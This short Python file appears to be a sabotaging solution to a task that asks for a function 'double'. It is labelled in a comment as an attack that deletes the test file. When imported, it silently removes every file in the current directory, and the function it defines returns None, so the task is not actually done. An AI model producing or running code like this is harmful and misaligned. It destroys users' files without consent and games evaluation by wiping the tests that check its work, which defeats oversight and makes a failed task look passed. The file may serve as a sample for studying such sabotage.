# attack: deletes the test file
import os
for name in os.listdir('.'):
    try: os.remove(name)
    except OSError: pass
def double(number):
    return None
